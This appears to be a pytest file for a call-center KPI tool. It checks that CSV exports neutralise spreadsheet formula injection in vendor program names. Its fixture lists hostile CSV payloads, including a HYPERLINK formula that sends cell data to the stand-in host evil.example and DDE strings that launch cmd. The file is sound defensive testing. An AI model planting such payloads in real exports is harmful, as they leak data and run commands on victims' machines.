"""Every CSV the tool writes is formula-safe (scorecard.present.text): program names such as
`=HYPERLINK(...)` from a vendor's export reach `scorecard kpis --by-program --format csv` quoted."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest
from conftest import write
from typer.testing import CliRunner

from scorecard.cli import app
from scorecard.ingest import run as load
from scorecard.present import text

EVIL = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "fullwidth": "＝1+1",
    "spaced": "  =1+1",
}


def test_formula_safe_prefixes_only_formula_leading_text():
    assert {k: text.formula_safe(v) for k, v in EVIL.items()} == {k: "'" + v for k, v in EVIL.items()}
    assert [text.formula_safe(v) for v in ("support", "sales = good", "a-b", "'quoted", "")] == [
        "support", "sales = good", "a-b", "'quoted", "",
    ]  # fmt: skip


def test_neutralise_leaves_numbers_dates_and_nulls_alone():
    frame = pl.DataFrame({"name": ["=1+1", None, "ok"], "value": [-1.5, 2.0, None], "n": [-1, 0, 1]})
    assert text.neutralise(frame).to_dict(as_series=False) == {
        "name": ["'=1+1", None, "ok"], "value": [-1.5, 2.0, None], "n": [-1, 0, 1],
    }  # fmt: skip


@pytest.fixture
def evil_db(tmp_path: Path) -> Path:
    """A workspace whose vendor's export names its programs with spreadsheet formulas, ingested."""
    root = tmp_path / "ws"
    write(root / "scorecard.toml", 'base_currency = "EUR"\n')
    write(
        root / "acme" / "vendor.toml",
        """
        name = "Acme Contact"
        timezone = "Europe/Paris"
        currency = "EUR"

        [[exports]]
        table = "calls"
        files = "calls/*.csv"
        """,
    )
    rows = ["call_id,program,arrived_at,outcome,wait_s,talk_s,hold_s,acw_s,transferred,resolved"]
    for i, program in enumerate(EVIL.values()):
        quoted = '"' + program.replace('"', '""') + '"'
        rows.append(f"c{i},{quoted},2026-04-15 10:0{i}:00,answered,10,100,0,20,false,true")
    (root / "acme" / "calls").mkdir(parents=True)
    (root / "acme" / "calls" / "2026-04.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    db = tmp_path / "db.duckdb"
    assert load.ingest(root, db).ok
    return db


def _cells(out: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(out)))


def test_kpis_by_program_csv_neutralises_formula_program_names(evil_db):
    result = CliRunner().invoke(app, ["kpis", "--db", str(evil_db), "--by-program", "--format", "csv"])
    assert result.exit_code == 0, result.output
    answered = {r["program"]: r["answered"] for r in _cells(result.stdout)}
    # The reader trims program names, so the tab- and space-led '=1+1' are one program with 2 calls.
    assert answered == {
        "'" + '=HYPERLINK("http://evil.example/?x="&A1,"click")': "1",
        "'+cmd|' /C calc'!A0": "1",
        "'@SUM(1+1)*cmd|' /C calc'!A0": "1",
        "'-2+3": "1",
        "'=1+1": "2",
        "'＝1+1": "1",
    }


def test_every_csv_cell_of_the_kpi_output_is_safe(evil_db):
    result = CliRunner().invoke(app, ["kpis", "--db", str(evil_db), "--by-program", "--format", "csv"])
    for row in _cells(result.stdout):
        for column, cell in row.items():
            if column not in ("program",):
                continue
            assert not cell.lstrip(" ").startswith(text.FORMULA_STARTS), (column, cell)
